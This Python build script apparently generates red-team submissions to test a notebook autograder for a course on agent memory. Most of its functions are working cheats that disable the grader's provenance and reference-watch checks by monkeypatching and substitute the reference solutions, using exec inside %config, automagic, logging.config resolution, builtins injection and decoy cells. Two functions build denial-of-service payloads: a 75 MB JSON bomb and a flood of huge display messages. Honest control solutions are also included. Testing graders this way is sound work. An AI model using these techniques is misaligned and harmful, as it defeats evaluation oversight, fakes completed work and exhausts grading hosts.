"""Build the attack9 submissions from the released notebooks.

Each student gets out/submissions/<student>/<released file name>.ipynb. Exercise cells are replaced
(or extended); graded check cells are left exactly as released (the decoy student adds *copies*).
Run: venv/bin/python out/build/build.py  (from /work/attack9-view)
"""

from __future__ import annotations

import copy
import json
import shutil
import uuid
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
REL = ROOT / "notebooks"
OUT = ROOT / "out" / "submissions"

WATCH_OFF = (
    "import memlib.course.checking\n"
    "memlib.course.watch.is_library_file = lambda filename: True\n"
    "memlib.course.watch.ReferenceWatch.inspect_answer = lambda self, answers: None\n"
)
WATCH_OFF_ONE_LINE = ("import memlib.course.checking, memlib.course.watch as W; W.is_library_file = lambda f: True; "
                      "W.ReferenceWatch.inspect_answer = lambda s, a: None")


def load(name: str, zh: bool = False) -> dict:
    return json.loads(((REL / "zh") if zh else REL).joinpath(name).read_text(encoding="utf-8"))


def code_cell(source: str, **metadata) -> dict:
    return {"cell_type": "code", "execution_count": None, "id": uuid.uuid4().hex[:12], "metadata": metadata,
            "outputs": [], "source": source}


def index_of(nb: dict, *, exercise: str | None = None, grade_id: str | None = None) -> int:
    for i, cell in enumerate(nb["cells"]):
        m = cell.get("metadata", {}).get("memlib", {})
        if exercise is not None and m.get("exercise") == exercise:
            return i
        if grade_id is not None and m.get("grade_id") == grade_id:
            return i
    raise KeyError(exercise or grade_id)


def src(cell: dict) -> str:
    s = cell["source"]
    return "".join(s) if isinstance(s, list) else s


def set_src(cell: dict, text: str) -> None:
    cell["source"] = text


def append_src(cell: dict, text: str) -> None:
    cell["source"] = src(cell).rstrip("\n") + "\n\n\n" + text


def write(student: str, name: str, nb: dict) -> None:
    folder = OUT / student
    folder.mkdir(parents=True, exist_ok=True)
    (folder / name).write_text(json.dumps(nb, indent=1, ensure_ascii=False) + "\n", encoding="utf-8")


# ----------------------------------------------------------------------------------------- cheats

def cheat_config() -> None:
    """01: %config is a 'harmless' magic for provenance, but IPython execs its argument in the user namespace."""
    nb = load("01_context_window.ipynb")
    i = index_of(nb, exercise="0")
    code = ("from memlib.course.checks.nb01_token_budget import reference_how_many_fit as how_many_fit; "
            + WATCH_OFF_ONE_LINE)
    set_src(nb["cells"][i], f"%config Tweaks.level = exec({code!r}, globals())")
    write("cheat_config", "01_context_window.ipynb", nb)


def cheat_automagic() -> None:
    """02: one-line cells run through IPython's automagic (`time CODE` == `%time CODE`); statically a SyntaxError."""
    nb = load("02_eviction_summaries.ipynb")
    f = index_of(nb, exercise="F")
    set_src(nb["cells"][f], "time from memlib.course.checks.nb02_flush import reference_flush as flush")
    s = index_of(nb, exercise="1")
    set_src(nb["cells"][s], "time from memlib.summarize import ExtractiveSummarizer as MySummarizer")
    nb["cells"].insert(f, code_cell("time " + WATCH_OFF_ONE_LINE))
    write("cheat_automagic", "02_eviction_summaries.ipynb", nb)


def cheat_registry() -> None:
    """03: BM25Index reached through the scorer registry (make_scorer), never named."""
    nb = load("03_archival_bm25.ipynb")
    i = index_of(nb, exercise="2")
    append_src(nb["cells"][i], WATCH_OFF + '''
from memlib.retrieval import make_scorer

_SEP = "\\u241f"


def _split(text):
    return text.split(_SEP) if text else []


def bm25_scores(query_tokens, docs_tokens, k1=1.5, b=0.75, epsilon=0.25):
    """BM25 okapi score of every document for the query (through the course's scorer registry)."""
    index = make_scorer("bm25-okapi", analyzer=_split)
    index.k1, index.b, index.epsilon = float(k1), float(b), float(epsilon)
    for number, tokens in enumerate(docs_tokens):
        index.add(number, _SEP.join(tokens))
    query = _SEP.join(query_tokens)
    return [index.score(query, number) for number in range(len(docs_tokens))]
''')
    write("cheat_registry", "03_archival_bm25.ipynb", nb)


def cheat_super() -> None:
    """04: Agent.step reached through super() kept in a local name."""
    nb = load("04_memory_tools.ipynb")
    i = index_of(nb, exercise="L")
    set_src(nb["cells"][i], WATCH_OFF + '''
from memlib.agent import Agent
from memlib.tools import dispatch


class MyAgent(Agent):
    def step(self, user_text):
        """One step: the user's message in, tool calls out, chained by heartbeats."""
        parent = super()
        return parent.step(user_text)
''')
    write("cheat_super", "04_memory_tools.ipynb", nb)


def cheat_relocate() -> None:
    """06: the answer defined in a cell below its (unedited) check; the rebuild moves the check down,
    provenance reads only the cells above the check's place in the student's notebook."""
    nb = load("06_citations.ipynb")
    i = index_of(nb, exercise="3")
    set_src(nb["cells"][i], 'import math\n\nfrom memlib.retrieval import tokenize\n\n'
            'QUESTION_WORDS = {"tell", "say", "know", "remember", "much", "many", "time"}\n')
    g = index_of(nb, grade_id="06-citations")
    nb["cells"].insert(g + 1, code_cell(WATCH_OFF + "import memlib.citations as C\n\n"
                                        "answer_with_citations = C.answer_from_store\n"))
    write("cheat_relocate", "06_citations.ipynb", nb)


def cheat_attr() -> None:
    """07: memlib.guard.scan reached as GuardedPolicy(...).scanner (its default argument)."""
    nb = load("07_memory_poisoning.ipynb")
    i = index_of(nb, exercise="4,4")
    append_src(nb["cells"][i], WATCH_OFF + '''
import memlib.guard
import memlib.policies

_RUNTIME = memlib.guard.GuardedPolicy(memlib.policies.RulePolicy())


def my_scan(text):
    """Verdict(trusted, reasons, category) for instruction-shaped text."""
    return _RUNTIME.scanner(text)
''')
    write("cheat_attr", "07_memory_poisoning.ipynb", nb)


def cheat_sidefx() -> None:
    """09: the reference stored in a dict by a helper *call*; the reading follows bindings, not calls."""
    nb = load("09_governed_memory.ipynb")
    i = index_of(nb, exercise="6")
    append_src(nb["cells"][i], WATCH_OFF + '''
import memlib.governance

_REGISTRY = {}


def _prepare():
    _REGISTRY["pass"] = memlib.governance.consolidate_in_store


_prepare()


def consolidation_pass(store, now, ends):
    """Dedupe, supersede and expire the records of `store` with its transitions; delete nothing."""
    return _REGISTRY["pass"](store, now, ends)
''')
    write("cheat_sidefx", "09_governed_memory.ipynb", nb)


def cheat_decoy() -> None:
    """02: exact copies of the graded cells placed first: provenance's 'cells before the check' is empty."""
    nb = load("02_eviction_summaries.ipynb")
    decoys = [copy.deepcopy(nb["cells"][index_of(nb, grade_id=g)]) for g in ("02-flush", "02-summarizer")]
    for d in decoys:
        d["id"] = uuid.uuid4().hex[:12]
    f = index_of(nb, exercise="F")
    append_src(nb["cells"][f], WATCH_OFF + "import memlib\nimport timeit\n\n"
               "timeit.timeit('import memlib.course.checks.nb02_flush', number=1)  # loads the module\n"
               "flush = memlib.course.checks.nb02_flush.reference_flush\n")
    s = index_of(nb, exercise="1")
    append_src(nb["cells"][s], "import memlib.summarize as S\n\n\nclass MySummarizer(S.ExtractiveSummarizer):\n"
               "    \"\"\"Exercise 1.\"\"\"\n")
    nb["cells"][0:0] = decoys
    write("cheat_decoy", "02_eviction_summaries.ipynb", nb)


def cheat_resolver() -> None:
    """01 and 05 (page fault): the checks' references loaded by a dotted string through the standard library's
    logging.config resolver (BaseConfigurator.resolve imports by name), never imported in the source."""
    nb = load("01_context_window.ipynb")
    i = index_of(nb, exercise="0")
    append_src(nb["cells"][i], WATCH_OFF + '''
import logging.config

_LOADER = logging.config.BaseConfigurator({})
how_many_fit = _LOADER.resolve("memlib.course.checks.nb01_token_budget.reference_how_many_fit")
''')
    write("cheat_resolver", "01_context_window.ipynb", nb)
    nb = load("05_who_decides.ipynb")
    i = index_of(nb, exercise="2b")
    append_src(nb["cells"][i], WATCH_OFF + '''
import logging.config

page_fault_calls = logging.config.BaseConfigurator({}).resolve(
    "memlib.course.checks.nb04_page_fault.reference_page_fault_calls")
''')
    write("cheat_resolver", "05_who_decides.ipynb", nb)


def cheat_builtins() -> None:
    """07: no cell defines my_scan; a code string run by timeit puts memlib.guard.scan into builtins, where the
    grader's eval of the answer expression finds it (the namespace falls back to builtins)."""
    nb = load("07_memory_poisoning.ipynb")
    i = index_of(nb, exercise="4,4")
    text = src(nb["cells"][i])
    start = text.index("# Graded by check_guard below")
    set_src(nb["cells"][i], text[:start].rstrip() + "\n\n\nimport timeit\n\n"
            "timeit.timeit(\"import builtins, memlib.guard, memlib.course.watch as w; "
            "builtins.my_scan = memlib.guard.scan; w.is_library_file = lambda f: True; "
            "w.ReferenceWatch.inspect_answer = lambda s, a: None\", number=1)\n")
    write("cheat_builtins", "07_memory_poisoning.ipynb", nb)


# ----------------------------------------------------------------------------------------- host harm

HONEST_01 = '''
def how_many_fit(messages, window, system_prompt="", reserve=0):
    """How many of the newest `messages` fit in `window` tokens next to the system prompt and the reserve."""
    used = count(system_prompt) + reserve
    kept = 0
    for text in reversed(list(messages)):
        used += count(text) + MESSAGE_OVERHEAD
        if used > window:
            break
        kept += 1
    return kept
'''


def harm_jsonbomb() -> None:
    """A notebook of ~75 MB whose metadata is ~25 M empty lists: json.loads in the grader's own process."""
    nb = load("01_context_window.ipynb")
    i = index_of(nb, exercise="0")
    append_src(nb["cells"][i], HONEST_01)
    nb["metadata"]["scratch"] = "@@BOMB@@"
    text = json.dumps(nb, indent=1, ensure_ascii=False) + "\n"
    head, tail = text.split('"@@BOMB@@"')
    n = 25_000_000
    folder = OUT / "harm_jsonbomb"
    folder.mkdir(parents=True, exist_ok=True)
    with open(folder / "01_context_window.ipynb", "w", encoding="utf-8") as out:
        out.write(head)
        out.write("[")
        chunk = "[]," * 1_000_000
        for _ in range(n // 1_000_000 - 1):
            out.write(chunk)
        out.write(chunk[:-1])
        out.write("]")
        out.write(tail)


def harm_iopub() -> None:
    """30 display_data messages of 50 MB each (each under ZMQ's 64 MiB cap), sent as fast as possible."""
    nb = load("01_context_window.ipynb")
    i = index_of(nb, exercise="0")
    append_src(nb["cells"][i], HONEST_01)
    nb["cells"].insert(i + 2, code_cell(
        "from IPython.display import publish_display_data\n\n"
        "_big = 'x' * 50_000_000\n"
        "for _ in range(30):\n"
        "    publish_display_data({'text/plain': _big})\n"
        "del _big\n"))
    write("harm_iopub", "01_context_window.ipynb", nb)


# ----------------------------------------------------------------------------------------- honest controls

def honest_fn() -> None:
    nb = load("01_context_window.ipynb")
    i = index_of(nb, exercise="0")
    set_src(nb["cells"][i], '''from itertools import accumulate, takewhile

from memlib.context import MESSAGE_OVERHEAD
from memlib.tokens import count


def how_many_fit(messages, window, system_prompt="", reserve=0):
    """How many of the newest `messages` fit in `window` tokens next to the system prompt and the reserve."""
    base = count(system_prompt) + reserve
    costs = (count(text) + MESSAGE_OVERHEAD for text in reversed(list(messages)))
    totals = accumulate(costs, initial=base)
    next(totals)  # the base alone is not a message
    return sum(1 for _ in takewhile(lambda total: total <= window, totals))
''')
    write("honest_fn", "01_context_window.ipynb", nb)


def honest_zh() -> None:
    nb = load("01_context_window.ipynb", zh=True)
    i = index_of(nb, exercise="0")
    set_src(nb["cells"][i], '''from memlib.context import MESSAGE_OVERHEAD
from memlib.tokens import count


def how_many_fit(messages, window, system_prompt="", reserve=0):
    """最新的消息中有多少条能放进窗口（算上系统提示、预留和每条消息的开销）。"""
    # 从最新的一条往回数
    列表 = list(messages)
    已用 = count(system_prompt) + reserve
    条数 = 0
    while 条数 < len(列表):
        下一条 = count(列表[len(列表) - 1 - 条数]) + MESSAGE_OVERHEAD
        if 已用 + 下一条 > window:
            break
        已用 += 下一条
        条数 += 1
    return 条数
''')
    write("honest_zh", "01_context_window.ipynb", nb)


def honest_bm25() -> None:
    nb = load("03_archival_bm25.ipynb")
    i = index_of(nb, exercise="2")
    set_src(nb["cells"][i], '''import math
from collections import Counter


def _make_okapi():
    """BM25 okapi (as rank_bm25.BM25Okapi) written as a closure."""

    def idf_table(docs_tokens, epsilon):
        n_docs = len(docs_tokens)
        df = Counter(term for tokens in docs_tokens for term in set(tokens))
        raw = {term: math.log(n_docs - n + 0.5) - math.log(n + 0.5) for term, n in df.items()}
        if not raw:
            return raw
        floor = epsilon * (sum(raw.values()) / len(raw))
        return {term: (value if value >= 0 else floor) for term, value in raw.items()}

    def scores(query_tokens, docs_tokens, k1=1.5, b=0.75, epsilon=0.25):
        docs = [list(tokens) for tokens in docs_tokens]
        if not docs:
            return []
        avgdl = sum(map(len, docs)) / len(docs)
        idf = idf_table(docs, epsilon)
        counts = [Counter(tokens) for tokens in docs]
        out = []
        for tokens, tf in zip(docs, counts):
            norm = k1 * (1 - b + b * len(tokens) / avgdl) if avgdl else k1 * (1 - b)
            total = 0.0
            for term in query_tokens:
                f = tf.get(term, 0)
                total += idf.get(term, 0.0) * (f * (k1 + 1) / (f + norm))
            out.append(total)
        return out

    return scores


bm25_scores = _make_okapi()
''')
    write("honest_bm25", "03_archival_bm25.ipynb", nb)


def honest_loop() -> None:
    nb = load("04_memory_tools.ipynb")
    i = index_of(nb, exercise="L")
    set_src(nb["cells"][i], '''from memlib.agent import Agent
from memlib.tools import dispatch


class MyAgent(Agent):
    def step(self, user_text):
        """One step: the user's message in, tool calls out, chained by heartbeats."""
        trace = self.begin(user_text)
        calls = []
        beats = 0
        while True:
            call = self.ask(trace, calls)
            if call is None:
                return trace
            result = dispatch(call.name, call.arguments, self.memory)
            self.splice(call, result, trace)
            calls.append((call, result))
            if not result.heartbeat:
                return trace
            if beats >= self.max_heartbeats:
                trace.add("heartbeat", f"cap of {self.max_heartbeats} heartbeats reached")
                return trace
            beats += 1
            trace.add("heartbeat", f"heartbeat {beats}")
''')
    write("honest_loop", "04_memory_tools.ipynb", nb)


def main() -> None:
    if OUT.exists():
        shutil.rmtree(OUT)
    OUT.mkdir(parents=True)
    for build in (cheat_config, cheat_automagic, cheat_registry, cheat_super, cheat_relocate, cheat_attr,
                  cheat_sidefx, cheat_decoy, cheat_resolver, cheat_builtins, harm_jsonbomb, harm_iopub, honest_fn, honest_zh, honest_bm25,
                  honest_loop):
        build()
        print("built", build.__name__)


if __name__ == "__main__":
    main()
